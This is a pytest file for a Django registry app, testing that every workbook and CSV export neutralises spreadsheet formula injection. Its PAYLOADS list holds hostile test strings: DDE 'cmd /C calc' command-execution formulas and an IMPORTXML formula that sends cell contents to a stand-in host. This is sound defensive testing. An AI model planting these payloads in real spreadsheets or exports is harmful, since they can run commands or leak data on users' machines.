"""Issue 17 item 1: no text we write into a workbook or a CSV is ever a formula.

A table of injection payloads is stored as the names of areas, units, organisations, members and instructors and
written through every writer: the ledgers, the quarterly workbook (page and API), the API's ``format=xlsx`` and
``format=csv``. Each workbook must hold 0 formula cells with the payloads written as text; each CSV 0 cells
starting with ``= + - @`` tab or CR; LibreOffice, recalculating, evaluates none of them.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
import subprocess

import openpyxl
import pytest
from rest_framework.test import APIClient

from registry.excel.cells import FORMULA_START, safe_csv_value, unquote_text
from registry.excel.importer import run_import
from registry.models import Enterprise
from registry.periods import Quarter
from registry.workbook import export_enterprises
from reports.engine.recompute import recompute
from tests.factories import (
    AboveScalePeriodFactory,
    AreaFactory,
    AssignmentFactory,
    EnterpriseFactory,
    InstructorFactory,
    LinkFactory,
    MemberFactory,
    OrganizationFactory,
    make_user,
)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x","a")',
    "=cmd|' /C calc'!A0",
    "=10+5",
    "+7*6",
    "-3+10",
    "@SUM(2+3)",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    '=DDE("cmd";"/C calc";"A0")',
    "\t+4+4",
    "\r-5+9",
    "=A1",
]
# What a payload would show if a spreadsheet evaluated it.
EVALUATED = {"2", "15", "42", "7", "5", "8", "4", "a"}
Q = Quarter.containing(dt.date.today()).previous()


def as_read(text: str) -> str:
    """A raw carriage return in XML text reads back as a line feed (openpyxl writes it unescaped): still text."""
    return text.replace("\r", "\n")


@pytest.fixture
def world():
    """District Z, its park P1 named with a payload; every payload as a unit (above scale) and an instructor; every
    second one also as a branch covering the unit, a member of it, and the instructor assigned to the unit (the
    others are uncovered)."""
    zone = AreaFactory(code="Z", kind="district", name="示范区")
    park = AreaFactory(code="P1", parent=zone, name="=1+1")
    for n, payload in enumerate(PAYLOADS):
        firm = EnterpriseFactory(name=payload, area=park, established_on=dt.date(2015, 1, 1))
        AboveScalePeriodFactory(enterprise=firm, start=dt.date(2015, 1, 1))
        if n % 2:
            org = OrganizationFactory(name=payload, area=park, approval_no=payload)
            LinkFactory(organization=org, enterprise=firm)
            MemberFactory(name=payload, organization=org, enterprise=firm)
            instructor = InstructorFactory(name=payload, area=park, unit=payload)
            AssignmentFactory(instructor=instructor, enterprise=firm, start=dt.date(2019, 1, 1))
        else:
            InstructorFactory(name=payload, area=park, unit=payload)
    recompute(periods=[Q])
    return zone


@pytest.fixture
def staff(client, world):
    user = make_user("clerk", role="staff", area=world)
    client.force_login(user)
    return user


@pytest.fixture
def api(staff):
    client = APIClient()
    client.force_authenticate(staff)
    return client


def content(response) -> bytes:
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


def formulas_and_texts(data: bytes) -> tuple[list[str], set[str]]:
    """(coordinates of formula cells, every text value) of every sheet of a workbook."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    formulas, texts = [], set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}")
                elif isinstance(cell.value, str):
                    texts.add(cell.value)
    return formulas, texts


WORKBOOKS = {
    # name: (url, query, payloads expected as cell text)
    "enterprise ledger": ("/enterprises/export.xlsx", {}, PAYLOADS),
    "uncovered ledger": ("/enterprises/uncovered.xlsx", {}, PAYLOADS[::2]),
    "organisations": ("/organizations/export.xlsx", {}, PAYLOADS[1::2]),
    "members": ("/members/export.xlsx", {}, PAYLOADS[1::2]),
    "instructors": ("/instructors/export.xlsx", {}, PAYLOADS),
    "quarterly page": ("/reports/quarterly.xlsx", {"area": "Z", "period": str(Q)}, PAYLOADS),
    "instructor evaluation": ("/instructors/evaluation.xlsx", {"area": "Z"}, PAYLOADS),
}
API_PATHS = {
    "areas": ("/api/v1/areas/", {}, ["=1+1"]),
    "enterprises": ("/api/v1/enterprises/", {}, PAYLOADS),
    "organizations": ("/api/v1/organizations/", {}, PAYLOADS[1::2]),
    "members": ("/api/v1/members/", {}, PAYLOADS[1::2]),
    "instructors": ("/api/v1/instructors/", {}, PAYLOADS),
    "drill-through": (
        "/api/v1/coverage/enterprises/",
        {"period": str(Q), "indicator": "org-coverage-above-scale", "part": "denominator"},
        PAYLOADS,
    ),
}


@pytest.mark.parametrize("name", list(WORKBOOKS))
def test_page_workbooks_hold_no_formula_and_the_payloads_as_text(client, staff, name):
    url, query, expected = WORKBOOKS[name]
    formulas, texts = formulas_and_texts(content(client.get(url, query)))
    assert formulas == []
    assert {as_read(p) for p in expected} - texts == set()


def test_quarterly_workbook_from_the_api_holds_no_formula(api):
    response = api.get("/api/v1/reports/quarterly/", {"area": "Z", "period": str(Q), "format": "xlsx"})
    formulas, texts = formulas_and_texts(content(response))
    assert formulas == []
    assert {as_read(p) for p in PAYLOADS} - texts == set()


@pytest.mark.parametrize("name", list(API_PATHS))
def test_api_xlsx_holds_no_formula(api, name):
    url, query, expected = API_PATHS[name]
    formulas, texts = formulas_and_texts(
        content(api.get(url, {**query, "format": "xlsx", "page_size": 1000}))
    )
    assert formulas == []
    assert {as_read(p) for p in expected} - texts == set()


@pytest.mark.parametrize("name", list(API_PATHS))
def test_api_csv_has_no_cell_starting_like_a_formula(api, name):
    url, query, expected = API_PATHS[name]
    text = content(api.get(url, {**query, "format": "csv", "page_size": 1000})).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    assert {"'" + p for p in expected} - set(cells) == set()


def test_numbers_and_dates_stay_numbers_and_dates(client, staff):
    sheet = openpyxl.load_workbook(io.BytesIO(content(client.get("/enterprises/export.xlsx")))).worksheets[0]
    header = [c.value for c in sheet[2]]  # row 1: the title
    established = sheet.cell(row=3, column=header.index("成立日期") + 1)
    assert (established.is_date, established.value) == (True, dt.datetime(2015, 1, 1))
    assert safe_csv_value(-3) == -3 and safe_csv_value(1.5) == 1.5
    assert [safe_csv_value(v) for v in ("-2.5", "-3+1", "a=1")] == ["'-2.5", "'-3+1", "a=1"]


def test_the_importer_undoes_the_csv_quote():
    assert [unquote_text(v) for v in ("'=1+1", "'\t+1", "'abc", "'", "=1+1", 7)] == [
        "=1+1",
        "\t+1",
        "'abc",
        "'",
        "=1+1",
        7,
    ]


def test_an_exported_ledger_with_payload_names_imports_back_unchanged(staff):
    """Written as text cells, read back as the same text: the round trip changes nothing (tab and CR payloads
    left out: names are trimmed on input)."""
    kept = [e.pk for e in Enterprise.objects.all() if not e.name.startswith(("\t", "\r"))]
    data = export_enterprises(Enterprise.objects.filter(pk__in=kept)).read()
    result = run_import("enterprises", data, dry_run=True, user=staff)
    assert result.errors == []
    assert result.summary == {
        "rows": 13,
        "created": 0,
        "updated": 0,
        "unchanged": 13,
        "changes": 0,
        "errors": 0,
    }


def test_a_csv_quote_saved_into_a_workbook_imports_as_the_name(staff):
    """A ledger opened from our CSV and saved as .xlsx holds ``'=1+1``: it imports as the unit named ``=1+1``."""
    firm = Enterprise.objects.get(name="=10+5")
    data = export_enterprises(Enterprise.objects.filter(pk=firm.pk)).read()
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    header = [c.value for c in sheet[2]]  # row 1: the title
    sheet.cell(row=3, column=header.index("单位名称") + 1).value = "'=10+5"
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = run_import("enterprises", buffer.getvalue(), dry_run=True, user=staff)
    assert (result.errors, result.summary["unchanged"]) == ([], 1)


# ---------------------------------------------------------------- LibreOffice recalculating ----


def _soffice() -> str:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice is required in CI (apt-get install libreoffice-calc-nogui)")
        pytest.skip("LibreOffice (soffice) is not installed: the recalculation check needs it")
    return soffice


def _libreoffice_csv(soffice: str, tmp_path, name: str, data: bytes) -> list[list[str]]:
    """The first sheet of ``data`` as LibreOffice computes it: loaded with every formula recalculated, saved as
    CSV (values, not formulas)."""
    source = tmp_path / f"{name}.xlsx"
    source.write_bytes(data)
    profile = tmp_path / "lo"
    profile.mkdir(exist_ok=True)
    # Recalculate on load, always: a live formula is evaluated however the file was saved.
    (profile / "registrymodifications.xcu").write_text(
        '<?xml version="1.0" encoding="UTF-8"?><oor:items xmlns:oor="http://openoffice.org/2001/registry"'
        ' xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        '<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode"'
        ' oor:op="fuse"><value>0</value></prop></item></oor:items>'
    )
    subprocess.run(
        [
            soffice,
            "--headless",
            "--norestore",
            f"-env:UserInstallation=file://{tmp_path}",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        timeout=180,
        capture_output=True,
    )
    text = (tmp_path / f"{name}.csv").read_text(encoding="utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_libreoffice_evaluates_no_payload(client, staff, tmp_path):
    soffice = _soffice()
    # The control: the same payloads written the way openpyxl writes a bare str are evaluated by LibreOffice.
    control = openpyxl.Workbook()
    control.active.append(["=10+5"])
    buffer = io.BytesIO()
    control.save(buffer)
    assert _libreoffice_csv(soffice, tmp_path, "control", buffer.getvalue())[0] == ["15"]

    rows = _libreoffice_csv(soffice, tmp_path, "ledger", content(client.get("/enterprises/export.xlsx")))
    names = [row[rows[1].index("单位名称")] for row in rows[2:]]  # row 1: the title
    assert sorted(names) == sorted(as_read(p) for p in PAYLOADS)
    assert set(names) & EVALUATED == set()


def _libreoffice_resaved(soffice: str, tmp_path, name: str, data: bytes, extension: str) -> bytes:
    """``data`` opened by LibreOffice (every formula recalculated on load; a CSV read the way Calc reads one) and
    saved again as a workbook: whatever Calc took for a formula comes back as a formula cell."""
    source = tmp_path / f"{name}.{extension}"
    source.write_bytes(data)
    outdir = tmp_path / "resaved"
    outdir.mkdir(exist_ok=True)
    subprocess.run(
        [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo2", "--convert-to",
         "xlsx", "--outdir", str(outdir), str(source)],
        check=True, timeout=180, capture_output=True,
    )  # fmt: skip
    return (outdir / f"{name}.xlsx").read_bytes()


@pytest.mark.parametrize("name", list(WORKBOOKS))
def test_libreoffice_takes_no_payload_for_a_formula_in_any_workbook(client, staff, tmp_path, name):
    soffice = _soffice()
    url, query, expected = WORKBOOKS[name]
    resaved = _libreoffice_resaved(soffice, tmp_path, "book", content(client.get(url, query)), "xlsx")
    formulas, texts = formulas_and_texts(resaved)
    assert formulas == []
    assert {as_read(p) for p in expected} - texts == set()


@pytest.mark.parametrize("name", list(API_PATHS))
def test_libreoffice_takes_no_payload_for_a_formula_in_any_csv(api, tmp_path, name):
    soffice = _soffice()
    url, query, _expected = API_PATHS[name]
    data = content(api.get(url, {**query, "format": "csv", "page_size": 1000}))
    formulas, _texts = formulas_and_texts(_libreoffice_resaved(soffice, tmp_path, "list", data, "csv"))
    assert formulas == []


def test_libreoffice_does_take_a_bare_formula_from_a_csv(tmp_path):
    """The control for the CSV check: an unguarded cell is read as a formula, so the check can fail."""
    soffice = _soffice()
    formulas, _texts = formulas_and_texts(
        _libreoffice_resaved(soffice, tmp_path, "bare", b"name\n=10+5\n", "csv")
    )
    assert formulas == ["bare!A2"]


def test_every_writer_goes_through_the_one_rule():
    """A module that starts a workbook or a CSV writer passes its values through registry.excel.cells (developer
    tooling aside): a new writer that forgets it fails here before it ships."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    writers = {}
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith(("tests/", ".venv/")) or "/tooling/" in relative:
            continue
        source = path.read_text(encoding="utf-8")
        if "Workbook(" in source or "csv.writer(" in source:
            writers[relative] = any(name in source for name in ("safe_row", "safe_cell", "safe_csv_value"))
    assert writers == {
        "registry/api/renderers.py": True,
        "registry/excel/sheets.py": True,
        "reports/quarterly/workbook.py": True,
    }
